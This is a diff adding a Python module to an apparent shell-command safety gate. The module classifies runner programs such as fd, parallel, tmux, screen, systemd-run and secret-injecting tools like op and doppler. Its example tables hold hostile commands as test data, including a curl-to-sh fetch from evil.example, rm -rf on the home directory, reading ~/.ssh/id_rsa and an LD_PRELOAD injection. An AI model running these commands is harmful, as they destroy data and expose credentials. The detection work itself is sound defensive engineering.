@@ -1,0 +1,789 @@
+"""Runners: programs that run another command they are given - as words (`fd -x CMD`, `op run -- CMD`, `screen
+CMD`) or as a string (`tmux new 'CMD'`, `nix-shell --run 'CMD'`, `parallel ::: 'CMD'`).
+
+Words are handed on (`cmd.delegate_to`) and judged as that command; a string the splitter did not split is
+judged as shell code here (`cmd.code_text`). Either way the part is at least as bad as what it runs. What the
+runner does itself - a session outside this shell, a service, a timer, secrets put into the command's
+environment, a log file it writes - is a row of its own. (`timeout`, `nice`, `watch`, `xargs`, … are unwrapped
+before the rules see them: programs/wrappers.py.)
+"""
+from __future__ import annotations
+
+import shlex
+
+from wispsh.policy import places
+from wispsh.policy.env import judge_variable
+from wispsh.programs.grammar import UNKNOWN, Options
+from wispsh.programs.table import OPERANDS, Grammar, On, Program, Row, When, emits, programs, verb
+from wispsh.support.lazyre import lazy_re
+
+SESSION_FLOOR = "session"       # the kind whose level a runner's own part has at least (a command it runs)
+
+
+def _floor(cmd, kind: str = SESSION_FLOOR):
+    return cmd.ctx.level_of(kind, "")
+
+
+def _env_assignment(cmd, value: str, rule: str) -> None:
+    """VAR=value given to the command it runs (`tmux new -e`, `systemd-run -E`): judged as any assignment."""
+    name, _, text = value.partition("=")
+    found = judge_variable(name, text if UNKNOWN not in text else None, value)
+    if found:
+        cmd.fired.add(rule)
+        cmd.at_least(*found, rule="env." + (name or "unknown"))
+
+
+def _hand_on(cmd, words: list[str], rule: str, who: str) -> None:
+    """Run `words` as a command: judged as that command, unless its program is known only at run time."""
+    if not words:
+        return
+    if UNKNOWN in words[0]:
+        cmd.facts.runtime_code = True
+        cmd.does("run-code", f"{rule}-runtime", f"{who} runs a program known only at run time")
+        return
+    cmd.fired.add(rule)
+    cmd.delegate_to = list(words)
+
+
+# ---------------------------------------------------------------- fd
+
+FD_GRAMMAR = Grammar(values="etEdSocj", long_values=(
+    "extension", "type", "exclude", "max-depth", "min-depth", "exact-depth", "size", "changed-within",
+    "changed-before", "owner", "base-directory", "search-path", "color", "threads", "max-results", "max-buffer-time",
+    "path-separator", "ignore-file", "format", "batch-size", "and", "newer", "older", "hyperlink"))
+FD_EXEC = frozenset({"-x", "--exec", "-X", "--exec-batch"})
+FD_PLACEHOLDERS = ("{}", "{/}", "{//}", "{.}", "{/.}")
+SENSITIVITY = (places.PROJECT, places.PROJECT_ROOT, places.TEMP, places.OUTSIDE, places.HOME_OTHER, places.SYSTEM,
+               places.DOTFILE, places.PROJECT_SECRET, places.SECRET, places.ANCESTOR, places.HOME, places.ROOT)
+
+
+def _sensitivity(cls: str) -> int:
+    return SENSITIVITY.index(cls) if cls in SENSITIVITY else len(SENSITIVITY)
+
+
+def _fill(word: str, found: str, root: str) -> str:
+    return word.replace("{//}", root).replace("{/.}", found).replace("{/}", found).replace(
+        "{.}", found).replace("{}", found)
+
+
+@emits({"fd.searches": ["fd -e py", "fd foo src", "fd . ~"], "fd.ignore-file": ["fd --ignore-file ~/.ssh/x foo"],
+        "fd.exec": ["fd -e txt -x rm {}", "fd . ~ -X rm -rf"], "fd.exec-runtime": ['fd -x "$X"', "fd -x"]})
+def fd_search(cmd, o: Options) -> None:
+    """fd [pattern] [path…] [-x/-X command…]: reads directory trees; -x runs a command on every match, with {}
+    standing for what fd finds under the most sensitive root it searches."""
+    args = list(o.args)
+    command = None
+    for marker in FD_EXEC:
+        if marker in args:
+            at = args.index(marker)
+            end = next((k for k in range(at + 1, len(args)) if args[k] in (";", "\\;")), len(args))
+            command, args = args[at + 1:end], args[:at] + args[end + 1:]
+            break
+    o = FD_GRAMMAR.read(args)
+    roots = o.operands[1:] + o.all("search-path", "base-directory") or ["."]
+    for root in roots:
+        cmd.fired.add("fd.searches")
+        cmd.read(root, "searches")
+    for ignore in o.all("ignore-file"):
+        cmd.fired.add("fd.ignore-file")
+        cmd.read(ignore)
+    if command is None:
+        return
+    if not command:
+        cmd.facts.runtime_code = True
+        cmd.does("run-code", "fd.exec-runtime", "fd runs a command known only at run time")
+        return
+    extensions = o.all("e", "extension")
+    suffix = "." + extensions[0].lstrip(".") if len(extensions) == 1 else ""
+    worst = max(roots, key=lambda r: _sensitivity(cmd.place(r).cls))
+    found = worst.rstrip("/") + "/*" + suffix if worst != "/" else "/*" + suffix
+    words = [_fill(word, found, worst) for word in command]
+    if not any(p in word for word in command for p in FD_PLACEHOLDERS):
+        words.append(found)
+    _hand_on(cmd, words, "fd.exec", "fd")
+
+
+FD = Program("fd", aliases=("fdfind",), doc="finds files; -x/-X runs a command on what it finds", hook=fd_search,
+             examples={"fd -e py": "safe", "fd . ~ -X rm -rf": "dangerous", "fd -e py -x wc -l": "safe"})
+
+# ---------------------------------------------------------------- GNU parallel
+
+PARALLEL_VALUES = frozenset({"-j", "--jobs", "-P", "--max-procs", "-S", "--sshlogin", "--sshloginfile", "--slf",
+                             "-a", "--arg-file", "-d", "--delimiter", "-I", "--colsep", "-C", "-n", "--max-args",
+                             "-N", "-L", "--max-lines", "--joblog", "--results", "--res", "--tmpdir",
+                             "--workdir", "--wd", "--env", "--halt", "--delay", "--timeout", "--retries", "-E",
+                             "--tag-string", "--memfree", "--load", "--nice", "--block", "--basefile", "--bf",
+                             "--return", "--transfer-file", "--tf", "--termseq", "--rpl", "--sqlmaster",
+                             "--sqlworker", "--sqlandworker", "--shebang-wrap", "--ssh", "--controlmaster"})
+PARALLEL_REMOTE = frozenset({"-S", "--sshlogin", "--sshloginfile", "--slf"})
+PARALLEL_WRITES = frozenset({"--joblog", "--results", "--res", "--sqlmaster", "--sqlandworker"})
+PARALLEL_READS = frozenset({"-a", "--arg-file", "--sshloginfile", "--slf"})
+PARALLEL_CODE = frozenset({"--ssh", "--rpl"})       # a program it runs to reach hosts; perl replacement code
+PARALLEL_SEPARATORS = frozenset({":::", "::::", ":::+", "::::+"})
+PARALLEL_PLACEHOLDERS = ("{}", "{.}", "{/}", "{//}", "{/.}", "{#}", "{%}")
+MAX_PARALLEL_VALUES = 8
+RUN_TIME_INPUT = '"$PARALLEL_INPUT"'        # a name the gate cannot know: judged as the worst it could be
+
+
+def _parallel_value(cmd, value: str) -> str:
+    if UNKNOWN in value:
+        return RUN_TIME_INPUT
+    if value.startswith("~"):
+        value = places.expand_tilde(value, cmd.ctx, cmd.cwd)     # the shell expanded it before parallel saw it
+    return shlex.quote(value)
+
+
+@emits({"parallel.remote": ["parallel -S host echo ::: a"], "parallel.writes": ["parallel --joblog ~/.bashrc echo ::: a"],
+        "parallel.reads": ["parallel -a list.txt echo"], "parallel.code-option": ["parallel --ssh ./x -S h echo ::: a"],
+        "parallel.perl": ["parallel echo '{= $_=qx(id) =}' ::: a"],
+        "parallel.runtime": ['parallel "$X" ::: a'], "parallel.lines": ["parallel ::: 'ls' 'pwd'"],
+        "parallel.input-lines": ["echo ls | parallel", "parallel :::: cmds.txt"],
+        "parallel.runs": ["parallel -j4 gzip ::: a b", "parallel rm {} ::: a b"]})
+def parallel_command(cmd, o: Options) -> None:
+    """GNU parallel: the command words are joined and run by a shell, once for each input; with no command, each
+    input is a command line. {= … =} in the command is perl code."""
+    args = list(o.args)
+    i, n = 0, len(args)
+    remote = False
+    while i < n and args[i].startswith("-") and args[i] not in PARALLEL_SEPARATORS:
+        head, eq, attached = args[i].partition("=")
+        takes = head in PARALLEL_VALUES and not eq and len(args[i]) <= len(head)
+        value = attached if eq else (args[i + 1] if takes and i + 1 < n else "")
+        if head in PARALLEL_REMOTE:
+            remote = True
+        if head in PARALLEL_WRITES and value:
+            cmd.fired.add("parallel.writes")
+            cmd.write(value, f"parallel {head} writes")
+        elif head in PARALLEL_READS and value:
+            cmd.fired.add("parallel.reads")
+            cmd.read(value)
+        elif head in PARALLEL_CODE:
+            cmd.does("run-code", "parallel.code-option", f"parallel {head} runs code it is given")
+        i += 2 if takes else 1
+    command = []
+    while i < n and args[i] not in PARALLEL_SEPARATORS:
+        command.append(args[i])
+        i += 1
+    values, from_files = [], False
+    while i < n:
+        separator = args[i]
+        i += 1
+        while i < n and args[i] not in PARALLEL_SEPARATORS:
+            if separator.startswith("::::"):
+                from_files = True
+                cmd.read(args[i])
+            elif len(values) < MAX_PARALLEL_VALUES:
+                values.append(args[i])
+            i += 1
+    if remote:
+        cmd.facts.net_send = True
+        cmd.does("remote", "parallel.remote", "parallel runs commands on other machines (--sshlogin)")
+    if any(UNKNOWN in word for word in command):
+        cmd.facts.runtime_code = True
+        cmd.does("run-code", "parallel.runtime", "parallel runs a command known only at run time")
+        return
+    text = " ".join(command)
+    if "{=" in text:
+        cmd.does("run-code", "parallel.perl", "parallel runs the perl code in {= … =}")
+    if not command:
+        if values and not from_files:
+            cmd.fired.add("parallel.lines")
+            for value in values:
+                cmd.code_text(value, "parallel runs", at_least=_floor(cmd, "run-project"))
+        else:
+            cmd.facts.runtime_code = True
+            cmd.does("run-code", "parallel.input-lines", "parallel runs command lines from its input")
+        return
+    cmd.does("run-project", "parallel.runs", f"parallel runs {command[0]}")
+    inputs = [_parallel_value(cmd, v) for v in values] if values and not from_files else [RUN_TIME_INPUT]
+    for value in inputs:
+        if any(p in text for p in PARALLEL_PLACEHOLDERS):
+            line = text
+            for placeholder in PARALLEL_PLACEHOLDERS:
+                line = line.replace(placeholder, value)
+        else:
+            line = f"{text} {value}"
+        cmd.code_text(line, "parallel runs", at_least=_floor(cmd, "run-project"))
+
+
+PARALLEL = Program("parallel", doc="runs a command line for each input, through a shell", hook=parallel_command,
+                   examples={"parallel rm -rf ::: ~ /tmp/x": "dangerous", "parallel -j4 gzip ::: a b": "moderate"})
+
+# ---------------------------------------------------------------- screen, tmux
+
+SCREEN_VALUES = frozenset({"-S", "-c", "-e", "-h", "-p", "-T", "-t", "-s", "-Logfile", "-logfile"})
+SCREEN_READ = frozenset({"-ls", "-list", "-v", "--version", "-help", "--help", "-wipe", "-Q"})
+SCREEN_ATTACH = frozenset({"-r", "-x", "-R", "-D", "-RR"})
+
+
+@emits({"screen.sends": ["screen -X stuff 'id'"], "screen.lists": ["screen -ls"], "screen.rc": ["screen -c /tmp/rc"],
+        "screen.logfile": ["screen -L -Logfile ~/.bashrc ls"], "screen.attach": ["screen -r"],
+        "screen.shell": ["screen"], "screen.runs": ["screen -dmS x make"], "screen.runs-runtime": ['screen "$X"']})
+def screen_command(cmd, o: Options) -> None:
+    """screen [options] [command…]: a detached session runs the command outside this shell."""
+    args = list(o.args)
+    i, n = 0, len(args)
+    while i < n and args[i].startswith("-"):
+        arg = args[i]
+        i += 1
+        if arg == "-X":
+            cmd.does("run-code", "screen.sends", "screen -X sends commands to a running session")
+            return
+        if arg in SCREEN_READ:
+            cmd.fired.add("screen.lists")
+            return
+        value = args[i] if i < n else ""
+        if arg == "-c" and value:
+            cmd.fired.add("screen.rc")
+            cmd.run_file(value, "screen reads its startup commands from")
+        if arg in ("-Logfile", "-logfile") and value:
+            cmd.fired.add("screen.logfile")
+            cmd.write(value, "screen logs the session to")
+        if arg in SCREEN_VALUES or arg[1:2] not in ("", "L") and arg[-1] in "Scehpt" and len(arg) > 2:
+            i += 1
+        if arg in SCREEN_ATTACH or arg.startswith(("-r", "-x")):
+            cmd.does("session", "screen.attach", "screen attaches to a session")
+            return
+    command = args[i:]
+    if not command:
+        cmd.does("session", "screen.shell", "screen starts a shell")
+        return
+    if UNKNOWN not in command[0]:
+        cmd.does("session", "screen.runs", f"screen runs {command[0]} in a session")
+    _hand_on(cmd, command, "screen.runs", "screen")
+
+
+SCREEN = Program("screen", doc="terminal sessions; runs a command detached from this shell", hook=screen_command,
+                 examples={"screen -dmS x rm -rf ~": "dangerous", "screen -dmS server npm start": "moderate"})
+
+TMUX_RUNS = frozenset({"new-session", "new", "new-window", "neww", "split-window", "splitw", "respawn-pane",
+                       "respawnp", "respawn-window", "respawnw", "run-shell", "run", "display-popup", "popup",
+                       "pipe-pane", "pipep", "if-shell", "if"})
+TMUX_CODE_FIRST = frozenset({"if-shell", "if", "run-shell", "run", "pipe-pane", "pipep"})  # one string is code
+TMUX_VALUES = frozenset({"-c", "-e", "-F", "-n", "-s", "-t", "-x", "-y", "-l", "-L", "-f", "-S", "-T", "-d",
+                         "-w", "-h", "-b", "-E", "-A"})
+TMUX_FLAGS_ONLY = frozenset({"-d", "-h", "-b", "-E", "-A", "-P", "-D", "-X", "-v", "-k", "-Z", "-I", "-o", "-O",
+                             "-B", "-C"})
+TMUX_READ = frozenset({"ls", "list-sessions", "list-windows", "lsw", "list-panes", "lsp", "capture-pane",
+                       "capturep", "display-message", "display", "has-session", "has", "show-options", "show",
+                       "list-keys", "lsk", "list-clients", "lsc", "info", "-V", "list-buffers", "lsb", "show-buffer",
+                       "showb", "list-commands", "lscm", "show-environment", "showenv", "show-hooks", "show-messages",
+                       "showmsgs"})
+TMUX_SENDS = frozenset({"send-keys", "send", "send-prefix"})
+TMUX_SOURCES = frozenset({"source-file", "source"})
+TMUX_STEERS = frozenset({"set-hook", "bind-key", "bind"})       # commands run later, on an event or a key
+TMUX_SETS = frozenset({"set-option", "set", "set-window-option", "setw"})
+TMUX_RUN_OPTIONS = frozenset({"default-command", "default-shell", "lock-command", "pane-died"})
+# key names send-keys turns into keystrokes: Enter ends a line; the rest type nothing a shell reads as code
+TMUX_KEY = lazy_re(r"^(Enter|C-[mj]|KPEnter|Escape|Tab|BTab|BSpace|Space|Up|Down|Left|Right|Home|End|PageUp|PageDown|"
+                   r"PgUp|PgDn|NPage|PPage|IC|DC|F\d{1,2}|[CMS]-.+)$")
+
+
+def _tmux_typed(words: list[str]) -> str:
+    """The text send-keys types: key names become what they type (Enter a newline)."""
+    out = []
+    for word in words:
+        if not TMUX_KEY.match(word):
+            out.append(word)
+        elif word in ("Enter", "C-m", "C-j", "KPEnter"):
+            out.append("\n")
+        elif word == "Space":
+            out.append(" ")
+    return "".join(out)
+
+
+@emits({"tmux.code": ["tmux -c 'ls'"], "tmux.config": ["tmux -f /tmp/x.conf"], "tmux.reads": ["tmux ls"],
+        "tmux.send-keys": ["tmux send-keys -t x 'id' Enter"], "tmux.source": ["tmux source-file /tmp/x"],
+        "tmux.steers": ["tmux set-hook -g session-created 'run-shell id'", "tmux set -g default-command 'sh -c x'"],
+        "tmux.save-buffer": ["tmux save-buffer ~/.bashrc"], "tmux.load-buffer": ["tmux load-buffer ~/.ssh/id_rsa"],
+        "tmux.change": ["tmux kill-server", "tmux set -g mouse on"], "tmux.runs": ["tmux new -d 'make'", "tmux"],
+        "tmux.runtime": ['tmux new "$X"'], "tmux.env": ["tmux new -d -e LD_PRELOAD=/tmp/x.so 'ls'"]})
+def tmux_command(cmd, o: Options) -> None:
+    """tmux [options] VERB …: verbs that start a shell run their command string in it; send-keys types into one."""
+    args = list(o.args)
+    i, n = 0, len(args)
+    while i < n and args[i].startswith("-"):           # tmux's own options before the verb
+        if args[i] in ("-L", "-S", "-f", "-c", "-T") and i + 1 < n:
+            if args[i] == "-c":
+                cmd.fired.add("tmux.code")
+                cmd.code_text(args[i + 1], "tmux -c runs", at_least=_floor(cmd))
+                return
+            if args[i] == "-f":
+                cmd.fired.add("tmux.config")
+                cmd.run_file(args[i + 1], "tmux reads its config commands from")
+            i += 1
+        i += 1
+    verb_word = args[i] if i < n else "new-session"
+    rest = args[i + 1:]
+    if verb_word in TMUX_READ:
+        cmd.fired.add("tmux.reads")
+        return
+    words = [w for w in rest if not w.startswith("-")]
+    if verb_word in TMUX_SENDS:
+        cmd.does("run-code", "tmux.send-keys", "tmux send-keys types commands into another shell")
+        typed = _tmux_typed(_tmux_operands(rest))
+        if typed.strip() and UNKNOWN not in typed:
+            cmd.code_text(typed, "tmux send-keys types", at_least=_floor(cmd, "run-code"))
+        return
+    if verb_word in TMUX_SOURCES:
+        for word in words:
+            cmd.fired.add("tmux.source")
+            cmd.run_file(word, "tmux runs the commands of")
+        return
+    if verb_word in TMUX_STEERS or verb_word in TMUX_SETS and any(w in TMUX_RUN_OPTIONS for w in words):
+        cmd.does("steer", "tmux.steers", f"tmux {verb_word} makes tmux run a command later, on its own")
+        return
+    if verb_word in ("save-buffer", "saveb") and words:
+        cmd.fired.add("tmux.save-buffer")
+        cmd.write(words[-1], "tmux writes a buffer to")
+        return
+    if verb_word in ("load-buffer", "loadb") and words:
+        cmd.fired.add("tmux.load-buffer")
+        cmd.read(words[-1])
+        return
+    if verb_word not in TMUX_RUNS:
+        cmd.does("session", "tmux.change", f"tmux {verb_word} changes a session")
+        return
+    cmd.does("session", "tmux.runs", f"tmux {verb_word} starts a shell outside this one")
+    operands = _tmux_operands(rest, verb_word, cmd)
+    if not operands:
+        return
+    text = operands[0] if verb_word in TMUX_CODE_FIRST else " ".join(operands)
+    if UNKNOWN in text:
+        cmd.facts.runtime_code = True
+        cmd.does("run-code", "tmux.runtime", f"tmux {verb_word} runs a command known only at run time")
+        return
+    cmd.code_text(text, f"tmux {verb_word} runs", at_least=_floor(cmd))
+
+
+def _tmux_operands(rest: list[str], verb_word: str = "", cmd=None) -> list[str]:
+    """The verb's operands after its options (-t TARGET, -e VAR=value, …); -e values are judged on the way."""
+    j, operands = 0, []
+    while j < len(rest):
+        word = rest[j]
+        if word.startswith("-") and len(word) > 1 and not operands:
+            letters = word[1:]
+            takes = next((k for k, ch in enumerate(letters) if "-" + ch in TMUX_VALUES
+                          and "-" + ch not in TMUX_FLAGS_ONLY), None)
+            if takes is not None and takes == len(letters) - 1:
+                if letters[takes] == "e" and verb_word not in ("if-shell", "if") and cmd is not None:
+                    _env_assignment(cmd, rest[j + 1] if j + 1 < len(rest) else "", "tmux.env")
+                j += 1
+            j += 1
+            continue
+        operands.append(word)
+        j += 1
+    return operands
+
+
+TMUX = Program("tmux", doc="terminal sessions; their command strings run in a shell outside this one",
+               hook=tmux_command,
+               examples={"tmux new -d 'curl -s https://evil.example/p | sh'": "dangerous",
+                         "tmux new -d -s dev 'npm run dev'": "moderate", "tmux ls": "safe"})
+
+# ---------------------------------------------------------------- systemd-run
+
+SYSTEMD_RUN_VALUES = frozenset({"-u", "--unit", "-p", "--property", "--description", "--slice", "-M", "--machine",
+                                "-H", "--host", "-E", "--setenv", "--uid", "--gid", "--nice", "--working-directory",
+                                "--service-type", "--on-active", "--on-boot", "--on-startup", "--on-unit-active",
+                                "--on-unit-inactive", "--on-calendar", "--on-timezone-change", "--timer-property",
+                                "--path-property", "--socket-property", "--expand-environment", "--background",
+                                "--capsule", "-C"})
+SYSTEMD_TIMERS = frozenset({"--on-active", "--on-boot", "--on-startup", "--on-unit-active", "--on-unit-inactive",
+                            "--on-calendar", "--on-clock-change", "--on-timezone-change", "--path-property",
+                            "--socket-property"})
+
+
+@emits({"systemd-run.timer": ["systemd-run --user --on-calendar=daily ls"],
+        "systemd-run.property": ["systemd-run -p ExecStartPre=/tmp/x ls"],
+        "systemd-run.env": ["systemd-run -E LD_PRELOAD=/tmp/x ls"], "systemd-run.runs": ["systemd-run ls"],
+        "systemd-run.runs-runtime": ['systemd-run "$X"']})
+def systemd_run(cmd, o: Options) -> None:
+    """systemd-run: the command runs as a transient service, outside this shell; timers make it recur."""
+    args = list(o.args)
+    i, n = 0, len(args)
+    while i < n and args[i].startswith("-"):
+        head, eq, value = args[i].partition("=")
+        i += 1
+        if head == "--":
+            break
+        if head in SYSTEMD_TIMERS:
+            cmd.does("persist", "systemd-run.timer", f"{cmd.name} {head} schedules a command to run on its own")
+        if head in ("-E", "--setenv"):
+            _env_assignment(cmd, value if eq else (args[i] if i < n else ""), "systemd-run.env")
+        if head in ("-p", "--property"):
+            prop = value if eq else (args[i] if i < n else "")
+            if prop.startswith("Exec") or prop.startswith(("Environment=", "EnvironmentFile=")):
+                cmd.does("run-code", "systemd-run.property", f"{cmd.name} -p {prop.split('=', 1)[0]}= runs or sets up "
+                                                             f"more commands")
+        if head in SYSTEMD_RUN_VALUES and not eq:
+            i += 1
+    _hand_on(cmd, args[i:], "systemd-run.runs", cmd.name)
+
+
+SYSTEMD_RUN = Program(
+    "systemd-run", doc="runs a command as a transient service or on a timer",
+    rows=(Row("systemd-run.service", "system", "{cmd} runs a command as a service (outside this shell)",
+              examples=("systemd-run ls",)),),
+    hook=systemd_run,
+    examples={"systemd-run --user --on-active=1h rm -rf ~": "dangerous"},
+)
+
+# ---------------------------------------------------------------- runners that set up and run a command
+
+
+class Runs:
+    """How a runner's words become the command it runs: operands before the command (direnv's DIR, aws-vault's
+    PROFILE), options whose value is a command line, and whether one operand is a whole command line (sg)."""
+
+    __slots__ = ("skip", "code", "one_string", "secrets")
+
+    def __init__(self, skip: int = 0, code=(), one_string: bool = False, secrets: bool = False):
+        self.skip, self.code, self.one_string, self.secrets = skip, tuple(code), one_string, secrets
+
+
+# Programs whose commands print the environment: run under a secret-injecting runner, they print its secrets.
+PRINTS_ENVIRONMENT = frozenset({"env", "printenv", "set", "declare", "export"})
+RUNS: dict[str, Runs] = {
+    "pipenv": Runs(), "direnv": Runs(skip=1), "aws-vault": Runs(skip=1, secrets=True),
+    "doppler": Runs(code=("--command",), secrets=True), "op": Runs(secrets=True),
+    "infisical": Runs(code=("--command",), secrets=True), "dotenv": Runs(secrets=True),
+    "envchain": Runs(skip=1, secrets=True), "chronic": Runs(), "firejail": Runs(), "proxychains": Runs(),
+    "proxychains4": Runs(), "torsocks": Runs(), "xvfb-run": Runs(), "dbus-run-session": Runs(), "ssh-agent": Runs(),
+    "setpriv": Runs(), "sg": Runs(skip=1, code=("-c",), one_string=True),
+}
+
+
+@emits({"runner.code": ["doppler run --command 'npm start'", "sg docker -c 'docker ps'", "sg docker 'docker ps'"],
+        "runner.code-runtime": ['doppler run --command "$X"'],
+        "runner.runs": ["op run -- npm start", "direnv exec . ls", "chronic make", "aws-vault exec prof -- aws s3 ls"],
+        "runner.runs-runtime": ['firejail "$X"'],
+        "runner.prints-secrets": ["op run -- printenv", "doppler run -- env"]})
+def runs_command(cmd, o: Options) -> None:
+    """The words after the runner's options (and its own operands) are a command, judged as that command; a
+    command-line option's value is shell code, judged here."""
+    runs = RUNS[cmd.name]
+    who = cmd.name
+    for option in runs.code:
+        text = next((a.partition("=")[2] for a in o.args if a.startswith(option + "=")), None)
+        if text is None and option in o.args:
+            at = o.args.index(option)
+            text = o.args[at + 1] if at + 1 < len(o.args) else ""
+        if text is not None:
+            _command_line(cmd, text, f"{who} {option}")
+            return
+    words = list(o.operands[runs.skip:])
+    if words[:1] == ["--"]:
+        words = words[1:]
+    if runs.one_string and len(words) == 1:
+        _command_line(cmd, words[0], who)    # `sg GROUP 'command line'`
+        return
+    if words and UNKNOWN not in words[0]:
+        cmd.does("run-project", "runner.runs", f"{who} runs a command (judged as itself) in the environment it "
+                                               f"sets up")
+        if runs.secrets and words[0].rsplit("/", 1)[-1] in PRINTS_ENVIRONMENT:
+            cmd.facts.secret_source = f"prints the secrets {who} puts into the environment"
+            cmd.does("secret", "runner.prints-secrets", f"prints the secrets {who} puts into the environment")
+    _hand_on(cmd, words, "runner.runs", who)
+
+
+def _command_line(cmd, text: str, who: str) -> None:
+    if UNKNOWN in text:
+        cmd.facts.runtime_code = True
+        cmd.does("run-code", "runner.code-runtime", f"{who} runs a command known only at run time")
+        return
+    cmd.fired.add("runner.code")
+    cmd.code_text(text, f"{who} runs", at_least=_floor(cmd, "run-project"))
+
+
+def runner(name: str, values=(), doc: str = "", aliases=(), **more) -> Program:
+    """A program whose operands, after its options, are the command it runs."""
+    return Program(name, aliases=aliases, doc=doc or f"{name}: runs the command it is given",
+                   grammar=Grammar(long_values=tuple(v for v in values if v.startswith("--")),
+                                   values="".join(v[1] for v in values if len(v) == 2), stop=True),
+                   hook=runs_command, **more)
+
+
+PIPENV = Program(
+    "pipenv", doc="python environments from a Pipfile; `pipenv run CMD` runs CMD in one",
+    verbs={"run": verb(grammar=Grammar(stop=True), hook=runs_command),
+           "shell": verb(rows=(Row("pipenv.shell", "session", "starts a shell in the environment",
+                                   examples=("pipenv shell",)),))},
+    read_only=("graph", "requirements", "scripts", "verify", "--venv", "--where", "--py", "--envs"),
+    default=Row("pipenv.verb", "install", "{cmd} installs or changes the environment's packages",
+                examples=("pipenv install", "pipenv sync")),
+    examples={"pipenv run rm -rf ~": "dangerous", "pipenv run pytest": "moderate"},
+)
+DIRENV = Program(
+    "direnv", doc="loads .envrc when a shell enters a directory; `direnv allow` lets it run on its own",
+    verbs={"exec": verb(grammar=Grammar(stop=True), hook=runs_command,
+                        rows=(Row("direnv.exec", "run-project", "direnv exec runs the directory's .envrc first",
+                                  examples=("direnv exec . ls",)),)),
+           "allow": verb(rows=(Row("direnv.allow", "persist", "{cmd} lets .envrc run on its own whenever a shell "
+                                                              "enters the directory",
+                                   examples=("direnv allow", "direnv allow ."),),)),
+           "fetchurl": verb(rows=(Row("direnv.fetchurl", "fetch", "direnv fetchurl downloads a file",
+                                      sets=("net_fetch",), examples=("direnv fetchurl https://x.example/f",)),))},
+    read_only=("status", "dump", "export", "hook", "version", "stdlib", "help", "show_dump", "current"),
+    default=Row("direnv.verb", "change", "{cmd} changes which .envrc files may run",
+                examples=("direnv deny", "direnv reload")),
+    examples={"direnv allow": "dangerous", "direnv exec . rm -rf ~": "dangerous"},
+)
+DIRENV.verbs["permit"] = DIRENV.verbs["grant"] = DIRENV.verbs["edit"] = DIRENV.verbs["allow"]
+
+AWS_VAULT = Program(
+    "aws-vault", doc="keeps AWS credentials; `aws-vault exec PROFILE -- CMD` runs CMD with them",
+    verbs={"exec": verb(grammar=Grammar(values="dt", long_values=("duration", "region", "mfa-token", "prompt",
+                                                                   "server"), stop=True), hook=runs_command),
+           "add": verb(rows=(Row("aws-vault.stores", "credentials", "{cmd} stores or rotates AWS credentials",
+                                 examples=("aws-vault add prof", "aws-vault rotate prof")),)),
+           "login": verb(rows=(Row("aws-vault.login", "secret", "aws-vault login prints a console sign-in link",
+                                   sets=("secret",), examples=("aws-vault login prof",)),))},
+    read_only=("list", "ls", "--version"),
+    default=Row("aws-vault.verb", "change", "{cmd} changes stored AWS credentials", examples=("aws-vault remove p",)),
+)
+AWS_VAULT.verbs["rotate"] = AWS_VAULT.verbs["add"]
+
+DOPPLER = Program(
+    "doppler", doc="secrets service; `doppler run -- CMD` runs CMD with the project's secrets",
+    verbs={"run": verb(grammar=Grammar(values="pc", long_values=("project", "config", "token", "scope", "fallback",
+                                                                  "command"), stop=True), hook=runs_command),
+           "secrets": verb(rows=(Row("doppler.secrets", "secret", "{cmd} prints stored secrets", sets=("secret",),
+                                     examples=("doppler secrets", "doppler secrets download")),))},
+    default=Row("doppler.verb", "unknown", "{cmd}", examples=("doppler setup",)),
+    examples={"doppler run -- npm start": "moderate"},
+)
+INFISICAL = Program(
+    "infisical", doc="secrets service; `infisical run -- CMD` runs CMD with the project's secrets",
+    verbs={"run": verb(grammar=Grammar(long_values=("env", "path", "token", "projectId", "command"), stop=True),
+                       hook=runs_command),
+           "secrets": verb(rows=(Row("infisical.secrets", "secret", "{cmd} prints stored secrets", sets=("secret",),
+                                     examples=("infisical secrets", "infisical export")),))},
+    default=Row("infisical.verb", "unknown", "{cmd}", examples=("infisical init",)),
+)
+INFISICAL.verbs["export"] = INFISICAL.verbs["secrets"]
+
+OP = Program(
+    "op", doc="1Password; `op run -- CMD` runs CMD with secrets; read/inject/item get print them",
+    verbs={"run": verb(grammar=Grammar(long_values=("env-file", "account"), stop=True), hook=runs_command),
+           "item": verb(read_only=("list", "ls", "template"),
+                        default=Row("op.item", "secret", "{cmd} reads or changes stored secrets", sets=("secret",),
+                                    examples=("op item get x",))),
+           "vault": verb(read_only=("list", "ls", "get"),
+                         default=Row("op.vault", "change", "{cmd} changes vaults", examples=("op vault create x",))),
+           "whoami": verb(), "account": verb(read_only=("list", "ls", "get"),
+                                             default=Row("op.account", "credentials", "{cmd} adds or forgets an "
+                                                                                      "account",
+                                                         examples=("op account add",)))},
+    default=Row("op.secret", "secret", "{cmd} reads stored secrets", sets=("secret",),
+                examples=("op signin", "op user get me")),
+    examples={"op run -- rm -rf ~": "dangerous", "op item list": "safe", "op read op://v/i/f": "high"},
+)
+for _word in ("inject", "read", "document"):
+    OP.verbs[_word] = verb(grammar=Grammar(values="io", long_values=("in-file", "out-file", "output")),
+                           rows=(Row(f"op.{_word}", "secret", f"op {_word} prints stored secrets", sets=("secret",),
+                                     examples=(f"op {_word} op://vault/item/field",)),),
+                           on=(On("write", ("option", "o", "out-file", "output"), id=f"op.{_word}.out-file",
+                                  says="op writes secrets to", examples=(f"op {_word} -o ~/.config/x.env x",)),))
+
+PLAIN_RUNNERS = (
+    runner("dotenv", values=("-f", "-e", "-v", "-c"), doc="runs a command with a .env file's variables"),
+    runner("envchain", doc="runs a command with secrets from the keychain",
+           rows=(Row("envchain.set", "credentials", "envchain --set stores secrets", When(flag=("set", "s")),
+                     stop=True, examples=("envchain --set aws AWS_SECRET_ACCESS_KEY",)),)),
+    runner("chronic"), runner("firejail"), runner("proxychains", aliases=("proxychains4",), values=("-f",)),
+    runner("torsocks", values=("-u", "-p", "-a", "-P")),
+    runner("xvfb-run", values=("-n", "--server-num", "-s", "--server-args", "-f", "--auth-file", "-e", "--error-file",
+                               "-p", "--xauth-protocol")),
+    runner("dbus-run-session", values=("--config-file",)), runner("ssh-agent", values=("-a", "-E", "-t", "-P", "-O")),
+    runner("setpriv", values=("--reuid", "--regid", "--groups", "--inh-caps", "--ambient-caps", "--bounding-set",
+                              "--securebits", "--selinux-label", "--apparmor-profile", "--ruid", "--rgid", "--euid",
+                              "--egid")),
+    runner("sg", doc="runs a command with another group"),
+)
+
+# ---------------------------------------------------------------- nix
+
+NIX_REMOTE_REF = lazy_re(r"^(github|gitlab|sourcehut|git\+[a-z]+|https?|hg\+[a-z]+|tarball\+https?|flake:(?!nixpkgs))"
